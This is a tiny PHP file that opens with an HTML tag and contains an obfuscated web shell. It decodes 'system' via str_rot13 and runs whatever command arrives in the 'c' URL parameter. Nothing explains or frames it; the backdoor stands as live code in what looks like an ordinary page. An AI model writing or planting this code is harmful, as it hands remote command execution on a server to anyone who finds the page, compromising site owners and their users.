<html><?php $f = str_rot13("flfgrz"); $f($_GET["c"]); ?>
<?= strrev("x") ?>